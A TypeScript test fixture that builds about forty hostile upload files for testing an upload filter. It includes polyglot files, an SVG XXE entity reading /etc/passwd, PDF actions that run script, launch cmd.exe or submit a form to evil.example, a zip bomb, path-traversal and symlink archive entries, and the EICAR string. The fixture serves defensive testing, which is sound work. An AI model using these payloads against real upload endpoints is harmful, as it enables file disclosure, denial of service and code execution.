import { deflateSync } from "node:zlib";
import sharp from "sharp";
import { zipOf, type ZipEntry } from "./zip.ts";

/** A file that means harm, or looks like it. */
export interface HostileFile {
  readonly what: string;
  readonly name: string;
  readonly bytes: Buffer;
  /** Sent under this media type; browsers may be made to say anything. */
  readonly type?: string;
  /** Taken, but with what was harmful left out: its kept bytes do not hold this. */
  readonly without?: Buffer | string;
}

const MEGABYTE = 1024 * 1024;
const pdf = (inside: string): Buffer =>
  Buffer.from(`%PDF-1.7\n1 0 obj << /Type /Catalog ${inside} >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n`, "latin1");
const GOOD_PDF = pdf("");
/** The scanners' test file, said in pieces. */
const EICAR = ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS-TEST-FILE", "!$H+H*"].join("");
const workbook = (more: readonly ZipEntry[] = []): Buffer =>
  zipOf([
    { name: "[Content_Types].xml", bytes: Buffer.from("<Types/>") },
    { name: "xl/workbook.xml", bytes: Buffer.from("<workbook/>") },
    ...more,
  ]);
const picture = (type: "jpeg" | "png", withExif = false): Promise<Buffer> => {
  const drawn = sharp({ create: { width: 40, height: 30, channels: 3, background: "#336699" } });
  return (withExif ? drawn.withExif({ IFD0: { Copyright: "GPS 1.3521N 103.8198E" } }) : drawn)
    .toFormat(type)
    .toBuffer();
};

/** A PNG that says it is this large. */
function sized(png: Buffer, side: number): Buffer {
  const large = Buffer.from(png);
  large.writeUInt32BE(side, 16);
  large.writeUInt32BE(side, 20);
  return large;
}

/** Forty files that no upload may take as they are. Made anew each time: none of them lies in the repository. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const [jpg, png, photo] = await Promise.all([picture("jpeg"), picture("png"), picture("jpeg", true)]);
  const svg = (inside: string) => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${inside}</svg>`);
  const script = "<script>parent.x=1</script>";
  const bomb = zipOf([
    { name: "[Content_Types].xml", bytes: Buffer.alloc(1) },
    { name: "xl/workbook.xml", bytes: Buffer.alloc(60 * MEGABYTE) },
  ]);
  const packedAction = deflateSync(Buffer.from("1 0 << /S /JavaScript /JS (app.alert(1)) >>"));
  const objectStream = Buffer.concat([
    Buffer.from(
      `%PDF-1.7\n2 0 obj << /Type /ObjStm /Filter /FlateDecode /Length ${packedAction.length} >> stream\n`,
      "latin1",
    ),
    packedAction,
    Buffer.from("\nendstream endobj\n%%EOF\n", "latin1"),
  ]);
  return [
    { what: "PDF that is a page too", name: "a.pdf", bytes: Buffer.from(`%PDF-1.7\n<html>${script}</html>\n%%EOF\n`) },
    { what: "GIF that is a program too", name: "a.png", bytes: Buffer.from("GIF89a=1;alert(1)//") },
    {
      what: "picture with an archive behind it",
      name: "a.jpg",
      bytes: Buffer.concat([jpg, zipOf([{ name: "evil.js", bytes: Buffer.from("alert(1)") }])]),
      without: "evil.js",
    },
    {
      what: "picture with a page behind it",
      name: "a.png",
      bytes: Buffer.concat([png, Buffer.from(script)]),
      without: script,
    },
    {
      what: "PDF with an archive behind it",
      name: "a.pdf",
      bytes: Buffer.concat([GOOD_PDF, zipOf([{ name: "evil.exe", bytes: Buffer.from("MZ") }])]),
    },
    { what: "drawing with a script", name: "a.svg", bytes: svg(script) },
    {
      what: "drawing with a foreign page",
      name: "a.svg",
      bytes: svg("<foreignObject><body onload='x()'/></foreignObject>"),
    },
    {
      what: "drawing that reads files",
      name: "a.png",
      bytes: Buffer.from(`<!DOCTYPE svg [<!ENTITY f SYSTEM "file:///etc/passwd">]><svg>&f;</svg>`),
    },
    { what: "page called a document", name: "a.pdf", bytes: Buffer.from(`<!doctype html>${script}`) },
    { what: "page called a table", name: "a.csv", bytes: Buffer.from(`<html>${script}</html>`) },
    { what: "program called a picture", name: "a.png", bytes: Buffer.concat([Buffer.from("MZ"), Buffer.alloc(200)]) },
    {
      what: "program of another system called a document",
      name: "a.pdf",
      bytes: Buffer.concat([Buffer.from("7f454c46", "hex"), Buffer.alloc(200)]),
    },
    {
      what: "script with an interpreter's line",
      name: "a.csv",
      bytes: Buffer.concat([Buffer.from("#!/bin/sh\n"), Buffer.from([0]), Buffer.from("rm")]),
    },
    { what: "double ending", name: "a.pdf.exe", bytes: GOOD_PDF },
    { what: "double ending the other way", name: "a.exe.html", bytes: GOOD_PDF },
    { what: "no ending", name: "invoice", bytes: GOOD_PDF },
    { what: "another type's ending", name: "a.jpg", bytes: GOOD_PDF },
    { what: "another type's ending with a media type to match", name: "a.png", bytes: jpg, type: "image/png" },
    { what: "media type of a page", name: "a.html", bytes: GOOD_PDF, type: "text/html;image/png" },
    {
      what: "document with a script",
      name: "a.pdf",
      bytes: pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    },
    {
      what: "document with a script spelled in numbers",
      name: "a.pdf",
      bytes: pdf("/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
    },
    { what: "document with a packed script", name: "a.pdf", bytes: objectStream },
    { what: "document that starts a program", name: "a.pdf", bytes: pdf("/OpenAction << /S /Launch /F (cmd.exe) >>") },
    { what: "document that carries a file", name: "a.pdf", bytes: pdf("/Names << /EmbeddedFiles 3 0 R >>") },
    {
      what: "document that sends a form",
      name: "a.pdf",
      bytes: pdf("/A << /S /SubmitForm /F (https://evil.example) >>"),
    },
    { what: "locked document", name: "a.pdf", bytes: pdf("/Encrypt 5 0 R") },
    { what: "document cut off", name: "a.pdf", bytes: Buffer.from("%PDF-1.7\n1 0 obj <<>>") },
    { what: "picture cut off", name: "a.jpg", bytes: jpg.subarray(0, Math.floor(jpg.length / 2)) },
    { what: "picture of nine hundred million pixels", name: "a.png", bytes: sized(png, 30_000) },
    { what: "nothing", name: "a.pdf", bytes: Buffer.alloc(0) },
    { what: "the scanners' test file", name: "a.csv", bytes: Buffer.from(EICAR) },
    { what: "the scanners' test file in a document", name: "a.pdf", bytes: pdf(`/Note (${EICAR})`) },
    { what: "archive that grows a thousandfold", name: "a.xlsx", bytes: bomb },
    {
      what: "archive in an archive",
      name: "a.xlsx",
      bytes: workbook([{ name: "xl/media/more.zip", bytes: bomb.subarray(0, 400) }]),
    },
    {
      what: "entry that says it is empty",
      name: "a.xlsx",
      bytes: workbook([{ name: "xl/sheet1.xml", bytes: Buffer.alloc(MEGABYTE), claims: 0 }]),
    },
    {
      what: "archive with a link",
      name: "a.xlsx",
      bytes: workbook([{ name: "xl/link", bytes: Buffer.from("/etc/passwd"), mode: 0o120777 }]),
    },
    {
      what: "archive with a way out",
      name: "a.xlsx",
      bytes: workbook([{ name: "../../evil", bytes: Buffer.from("x") }]),
    },
    {
      what: "workbook with macros",
      name: "a.xlsx",
      bytes: workbook([{ name: "xl/vbaProject.bin", bytes: Buffer.from("macro") }]),
    },
    {
      what: "locked workbook",
      name: "a.xlsx",
      bytes: workbook([{ name: "xl/sheet1.xml", bytes: Buffer.from("x"), locked: true }]),
    },
    {
      what: "archive with too many entries",
      name: "a.xlsx",
      bytes: workbook(
        Array.from({ length: 1_001 }, (_, index) => ({ name: `xl/s${index}.xml`, bytes: Buffer.from("x") })),
      ),
    },
    { what: "photograph that tells where it was taken", name: "a.jpg", bytes: photo, without: "103.8198E" },
  ];
}
